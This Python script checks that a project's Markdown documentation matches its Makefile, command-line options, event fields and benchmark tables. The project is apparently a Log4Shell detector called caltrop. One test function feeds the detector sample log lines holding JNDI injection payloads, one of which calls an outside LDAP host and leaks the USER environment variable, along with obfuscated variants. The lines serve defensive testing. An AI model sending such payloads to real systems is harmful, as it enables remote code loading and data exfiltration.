#!/usr/bin/env python3
"""The documents against what they speak of: check-docs.py [CALTROP]

 * every relative link in a Markdown file leads to a file
 * every `make TARGET` they name is in the Makefile, and every target is described by make help
 * every `caltrop COMMAND --option` they show is known to that command's --help (when the program is built)
 * docs/events.md names every field of real NDJSON, and holds the real CSV header (when the program is built)
 * the tables the README quotes are those in bench/results*.md, byte for byte
 * every header of src/ opens with a comment that says what it is for
"""
import json
import os
import pathlib
import re
import subprocess
import sys

ROOT = pathlib.Path(__file__).resolve().parent.parent


def markdown():
    for path in sorted([*ROOT.glob("*.md"), *ROOT.glob("docs/**/*.md"), *ROOT.glob("bench/*.md")]):
        yield path, path.read_text()


def links():
    for path, text in markdown():
        for target in re.findall(r"\]\(([^)#\s]+)[^)]*\)", text):
            if "://" not in target and not target.startswith("mailto:") and not (path.parent / target).exists():
                yield f"{path.relative_to(ROOT)}: no such file: {target}"


def make_targets():
    makefile = (ROOT / "Makefile").read_text()
    targets = set(re.findall(r"^([a-z][a-z-]*):", makefile, re.M))
    described = set(re.findall(r"^([a-z][a-z-]*):.*## ", makefile, re.M))
    for target in sorted(targets - described):
        yield f"Makefile: {target} is not described"
    for path, text in markdown():
        for target in re.findall(r"(?:^|`)make ([a-z][a-z-]*)", text, re.M):
            if target not in targets:
                yield f"{path.relative_to(ROOT)}: make {target} does not exist"


def options(caltrop):
    known = {}
    for path, text in markdown():
        for command, rest in re.findall(r"\bcaltrop (detect|explain|up|scan)\b([^`\n|#]*)", text):
            if command not in known:
                known[command] = subprocess.run([caltrop, command, "--help"], capture_output=True, text=True, check=False).stdout
            for option in re.findall(r"(?<!\S)(--[a-z][a-z-]*)", rest):
                if not re.search(re.escape(option) + r"(?![a-z-])", known[command]):
                    yield f"{path.relative_to(ROOT)}: caltrop {command} does not know {option}"


def field_paths(value, path=""):
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from field_paths(inner, f"{path}.{key}" if path else key)
    elif isinstance(value, list) and value:
        for inner in value:
            yield from field_paths(inner, path)
    else:
        yield path


def event_fields(caltrop):
    page = (ROOT / "docs/events.md").read_text()
    documented = {name for row in re.findall(r"^\| (`.*?) \|", page, re.M) for name in re.findall(r"`([^`]+)`", row)}
    run = [caltrop, "detect", "-q", "-"]
    lines = ('192.0.2.1:44 - - [10/Dec/2021:14:00:00 +0000] "GET /?x=${jndi:ldap://a.oast.site:1389/${env:USER}} HTTP/1.1" 200 1 "-" "-"\n'
             '192.0.2.1 - - [10/Dec/2021:14:00:00 +0000] "GET / HTTP/1.1" 200 1 "${${::-${::-$${::-j}}}}" "%24{${lower:j}ndi:dns://h.example/a}"\n'
             '{"host":"h.example:80","remote_addr":"192.0.2.1","http_x_forwarded_for":"192.0.2.9","action":"BLOCK","m":"${jndi:rmi://h.example/a}"}\n').encode()
    events = subprocess.run([*run, "--json"], input=lines, capture_output=True, check=False).stdout.splitlines()
    if len(events) != 3:
        yield f"caltrop detect: {len(events)} events from 3 attempts"
    for name in sorted({path for event in events for path in field_paths(json.loads(event))} - documented):
        yield f"docs/events.md: {name} is not described"
    header = subprocess.run([*run, "--output", "csv"], input=lines, capture_output=True, text=False, check=False).stdout.split(b"\n")[0].strip().decode()
    if f"```csv\n{header}\n```" not in page:
        yield "docs/events.md: the CSV header is another"


def quoted_tables():
    readme = (ROOT / "README.md").read_text()
    for results in sorted((ROOT / "bench").glob("results*.md")):
        mark = results.stem.replace("results", "bench")
        between = re.search(rf"<!-- {mark} -->\n(.*?)<!-- /{mark} -->", readme, re.S)
        if not between:
            yield f"README.md: no <!-- {mark} --> block"
        elif between.group(1).strip() != results.read_text().strip():
            yield f"README.md: the table {mark} is not bench/{results.name} (tools/record-readme.py)"


def headers():
    for path in sorted((ROOT / "src").rglob("*.h")):
        if not path.read_text(errors="replace").lstrip().startswith("/*"):
            yield f"{path.relative_to(ROOT)}: opens without a comment that says what it is for"


def main():
    caltrop = sys.argv[1] if len(sys.argv) > 1 else None
    found = [*links(), *make_targets(), *quoted_tables(), *headers()]
    if caltrop and os.access(caltrop, os.X_OK):
        found += [*options(os.path.abspath(caltrop)), *event_fields(os.path.abspath(caltrop))]
    print("\n".join(found) if found else "documents agree")
    return 1 if found else 0


if __name__ == "__main__":
    sys.exit(main())
